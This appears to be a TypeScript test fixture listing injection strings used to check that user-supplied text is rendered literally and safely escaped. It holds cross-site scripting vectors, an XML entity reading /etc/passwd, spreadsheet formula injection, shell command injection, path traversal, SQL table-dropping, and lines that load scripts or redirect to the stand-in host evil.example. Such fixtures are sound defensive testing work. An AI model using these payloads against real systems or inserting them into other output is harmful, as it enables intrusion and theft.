/** Sets a flag that a page must never have. */
const RUN = 'window.__hacked=1';

/**
 * Text that is code to somebody, in the source and in the notice alike: it is published as it stands.
 * Each is told apart by its place in the list.
 */
export const HARMLESS: readonly string[] = [
  // HTML, and ways out of the places in which a page holds text.
  `<script>${RUN}</script>`,
  `<img src=x onerror="${RUN}">`,
  `<svg/onload=${RUN}>`,
  `<iframe srcdoc="<script>${RUN}</script>"></iframe>`,
  `<style>*{display:none}</style><link rel=stylesheet href=//evil.example>`,
  `<base href="https://evil.example/"><meta http-equiv=refresh content="0;url=//evil.example">`,
  `</script><script>${RUN}</script>`,
  `</title></style></textarea></template></noscript><script>${RUN}</script>`,
  `<!-- --!><script>${RUN}</script><!--`,
  `"><script>${RUN}</script>`,
  `' onmouseover='${RUN}' x='`,
  `" autofocus onfocus="${RUN}" x="`,
  `]]><script>${RUN}</script><![CDATA[`,
  `<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>&a;`,
  `&lt;script&gt;${RUN}&lt;/script&gt;`,
  `&#60;script&#62;&amp;amp;&nbsp;&notanentity;`,
  // Templates, scripts and Markdown.
  `{${RUN}}`,
  `\${${RUN}}`,
  `{{constructor.constructor("${RUN}")()}}`,
  `\`\${${RUN}}\``,
  `<%= ${RUN} %>#{${RUN}}`,
  `javascript:${RUN}`,
  `[链接](javascript:${RUN})`,
  `![图](x" onerror="${RUN})`,
  `[名称]: javascript:${RUN}`,
  `<javascript:${RUN}>`,
  `<Supplied note={${RUN}}>补字</Supplied>`,
  `import x from "https://evil.example/x.js"`,
  `export const x = ${RUN}`,
  `**重**与_斜_与\`码\`与~~删~~与\\*`,
  '# 标题 > 引文 - 列表 | 表 |',
  '---',
  // Spreadsheets, shells, paths, prototypes, databases.
  `=cmd|'/C calc'!A0`,
  '+HYPERLINK("https://evil.example")',
  '-2+3+cmd',
  '@SUM(A1:A9)',
  '＝ＨＹＰＥＲＬＩＮＫ',
  '$(touch /tmp/hacked);`id`|id',
  '../../../etc/passwd%00%2e%2e%2f',
  '__proto__ constructor toString hasOwnProperty',
  `'; DROP TABLE measures; --`,
  '\\u003cscript\\u003e\\x3c\\74',
  // Characters that are seen: not what they look like, but what the source has.
  '⼯作与工作',
  'Ａdmin与аdmin',
  'ﷺ与e\u0301与𠀀与👨',
  '占位\ue000字',
  `“${'〔'.repeat(40)}${'〕'.repeat(40)}”`,
  '甲'.repeat(3000),
];

/** The same on one line without quotation marks for fields; what stands there is shown to readers too. */
export const HARMLESS_FIELD = `"></title></script><script>${RUN}</script><img src=x onerror=${RUN}><marquee>]]>&lt;b&gt;{${RUN}}`;
